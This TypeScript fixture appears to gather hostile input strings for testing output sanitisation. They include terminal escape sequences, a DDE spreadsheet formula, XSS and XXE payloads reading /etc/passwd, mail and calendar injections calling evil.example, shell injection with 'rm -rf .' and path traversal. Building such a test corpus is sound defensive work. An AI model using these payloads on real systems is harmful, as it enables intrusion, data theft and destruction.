// The one table of texts that try to be something else: every sink is tried with all of them.

/** Commands of a terminal, and what moves, hides or turns letters round there. */
const terminal = [
  '\u001B]52;c;AAAA jamais fini',
  '\u001B]0;titre\u0007\u001B]8;;http://evil.example \u001B\\lien\u001B]8;;\u001B\\',
  '\u001B[2J\u001B[31mrouge\u001B[5mclignote',
  '\u001BP1$q\u001B\\\u001B_app\u001B\\\u001B^pm\u001B\\\u001Bc',
  'fait\rouvert \b\b\b',
  'sonne\u0007\u0007, efface\u007F\u007F',
  'ligne 1\nligne 2\n\n---',
  'a\u0001b\u000Bc\uFFFE',
  'nul\u0000fin',
  '\u202Egnp.exe\u2066',
  '\u202Dgauche\u202C \u2067droite\u2069 \u061C\u200F\u200E',
  'mot\u200Bcoupé\u2060et\uFEFFrien\u00ADdu tout',
  '\uD800 seul',
  'fin seule \uDFFF',
  '\u009B31m\u0085suite\u2028fin\u2029',
  '\u{E0041}\u{E0042}cachés\uFFF9note\uFFFB',
  'z'.repeat(3000),
  `Z\u0300${'\u0301'.repeat(300)}algo`,
  '日本語のとても長い文章です。これは単語の間に空白がありません。',
  '👩‍👩‍👧 🇳🇪 ✅',
  'مرحبا بالعالم',
  'e\u0301te\u0301',
];

/** Formulas and cells of a spreadsheet. */
const spreadsheet = [
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|'/c calc'!A1",
  '+1',
  '@SUM(1,1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '"=1+1",=2+2;=3+3',
  '"guillemets", virgule; point-virgule',
  "' apostrophe ",
  '_x0041__x000D_',
];

/** Elements, handlers, addresses and comments of a page, and of XML. */
const markup = [
  '</script><script>alert(1)</script><!--',
  '</style></title></textarea><svg onload=alert(1)>',
  '<img src=x onerror=alert(1)> &lt; &amp; &#39; &#x6A;',
  '" autofocus onfocus="alert(1)" x=\'',
  "' onclick='alert(1)",
  '<a href="javascript:alert(1)">x</a><base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '</w:t></w:r><w:r><w:instrText>INCLUDETEXT "//evil.example"</w:instrText></w:r>',
  '<?xml version="1.0"?><?php echo 1 ?> -- --> <![CDATA[x]]>',
];

/** Markdown, and what other programs make of a text: Typst, Handlebars, YAML, calendars, mail, checks of GitHub. */
const languages = [
  'a | b \\| c \\',
  '`code` **gras** _ital_ ~~barré~~ [lien](javascript:x) ![img](y) [^1] $x$',
  '![x](http://evil.example/x.png) [y](data:text/html,<script>alert(1)</script>) <http://evil.example>',
  '# titre #',
  '1. liste',
  '- [ ] case',
  '| --- | --- |',
  '```\nclôture\n~~~',
  '[x]: javascript:alert(1)',
  '#read("/etc/passwd") #import "@preview/x:1.0.0" #{panic()} $ \\ <a> @b // /* */',
  '{{{body}}} {{#each this}}{{> passwd}}{{/each}} {{lookup constructor "name"}}',
  '---\nstatus: adopted\n---',
  ': &a [*a, !!js/function "x"] # reste',
  'fin\r\nEND:VTODO\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:ftp://evil.example/x',
  'objet\r\nBcc: x@evil.example\r\n\r\ncorps\r\n--gtm=_\r\n.',
  '::error file=x,line=1::faux%0A::set-output name=x::y\n::warning::z',
  '<<<<<<< HEAD\n=======\n>>>>>>> autre',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a shell would read
  '$(touch x) `touch x` ; rm -rf . | cat && %PATH% ${HOME}',
  '../../../etc/passwd',
  'C:\\Windows\\CON.txt:flux',
  '--output=x',
  '__proto__',
];

/** Every one of them. */
export const hostile: readonly string[] = [...terminal, ...spreadsheet, ...markup, ...languages];
